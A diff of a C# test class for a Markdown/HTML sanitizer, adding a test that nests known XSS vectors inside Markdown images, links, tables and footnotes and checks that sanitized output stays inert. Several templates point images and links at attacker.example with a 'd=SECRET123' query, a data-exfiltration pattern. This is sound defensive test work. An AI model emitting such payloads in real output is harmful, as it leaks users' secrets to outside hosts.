@@ -12,8 +12,7 @@ public sealed class OutputCorpusTests
 
     // How a naive GFM-style client renders the safe Markdown: raw HTML on, tables, autolinks (bare URLs and www.),
     // footnotes, task lists, strikethrough. (Markdig's generic-attributes and math extensions are not GFM and not covered.)
-    private static readonly MarkdownPipeline s_naiveClient = new MarkdownPipelineBuilder()
-        .UsePipeTables().UseAutoLinks().UseFootnotes().UseTaskLists().UseEmphasisExtras().UseMediaLinks().Build();
+    private static readonly MarkdownPipeline s_naiveClient = MarkdownClients.Naive;
 
     [TestMethod]
     [DataRow("dompurify")]
@@ -48,6 +47,52 @@ public sealed class OutputCorpusTests
             Check(failures, $"{set}#{id} md", result);
         }
 
+        Assert.IsEmpty(failures, string.Join("\n", failures.Take(30)));
+    }
+
+    /// <summary>
+    /// Where a vector is embedded for <see cref="XssVectors_NestedInImagesAndLinks_AsMarkdown_LeaveNothingExecutable"/>:
+    /// image descriptions (kept, removed, nested in a link, inside a table cell, emphasis or footnote) and link text.
+    /// </summary>
+    internal static readonly string[] Nestings =
+    [
+        "![{0}](https://trusted.example/a.png)",
+        "![{0}](https://attacker.example/p.png?d=SECRET123)",
+        "![x ![{0}](https://attacker.example/p.png) [{0}](https://attacker.example/?d=SECRET123) ![{0}](https://trusted.example/b.png)](https://trusted.example/a.png \"t\")",
+        "[{0}](https://trusted.example/)",
+        "[{0}](https://attacker.example/?d=SECRET123)",
+        "[![{0}](https://trusted.example/a.png)](https://trusted.example/)",
+        "| h |\n|---|\n| ![{0}](https://trusted.example/a.png) [{0}](https://trusted.example/) |\n",
+        "**_~~![{0}](https://trusted.example/a.png)~~_**",
+        "x[^1]\n\n[^1]: ![{0}](https://trusted.example/a.png) [{0}](https://trusted.example/)\n",
+    ];
+
+    /// <summary>A vector on one line (so it stays inside the description or link text), embedded at <paramref name="nesting"/>.</summary>
+    internal static string Nest(string nesting, string payload) =>
+        nesting.Replace("{0}", System.Text.RegularExpressions.Regex.Replace(payload, @"\s*[\r\n]\s*", " "), StringComparison.Ordinal);
+
+    [TestMethod]
+    [DataRow("dompurify")]
+    [DataRow("htmlsanitizer")]
+    [DataRow("owasp")]
+    public void XssVectors_NestedInImagesAndLinks_AsMarkdown_LeaveNothingExecutable(string set)
+    {
+        var vectors = SharedData.XssVectors().Where(v => v.Set == set).ToList();
+        if (vectors.Count == 0) Assert.Inconclusive($"No vectors for {set} in ../shared/external.");
+        var failures = new List<string>();
+        int live = 0;
+        foreach (var (_, id, payload) in vectors)
+        {
+            for (int n = 0; n < Nestings.Length; n++)
+            {
+                string markdown = Nest(Nestings[n], payload);
+                // Control: how many embedded vectors a caption-rendering client would run or load if left as they are.
+                if (IndependentDomCheck.Problems(MarkdownClients.RenderWithCaptions(markdown), Allowed).Any(p => p != "attribute id")) live++;
+                Check(failures, $"{set}#{id} nesting {n}", s_sanitizer.SanitizeMarkdown(markdown));
+            }
+        }
+
+        Assert.IsGreaterThan(vectors.Count, live, "control: embedded vectors must be live in a caption-rendering client before sanitizing");
         Assert.IsEmpty(failures, string.Join("\n", failures.Take(30)));
     }
 
@@ -161,7 +206,10 @@ public sealed class OutputCorpusTests
     private static void Check(List<string> failures, string label, SanitizedOutput result)
     {
         if (result.Findings.Any(f => f.Detail == "verify.failed-closed")) failures.Add($"{label}: needed the fail-closed post-check");
-        foreach (var (html, client) in result.Markdown is null ? [(result.Html, false)] : new[] { (result.Html, false), (Markdown.ToHtml(result.Markdown, s_naiveClient), true) })
+        if (result.Markdown is not null && MarkdownClients.RawHtml(result.Markdown) is { Count: > 0 } raw)
+            failures.Add($"{label}: raw HTML left in the Markdown: {Trim(string.Join(", ", raw))}");
+        foreach (var (html, client) in result.Markdown is null ? [(result.Html, false)]
+            : new[] { (result.Html, false), (Markdown.ToHtml(result.Markdown, s_naiveClient), true), (MarkdownClients.RenderWithCaptions(result.Markdown), true) })
         {
             // The client's own renderer adds footnote ids and classes; those are its markup, not the model's.
             var problems = IndependentDomCheck.Problems(html, Allowed).Where(p => !client || p != "attribute id").ToList();
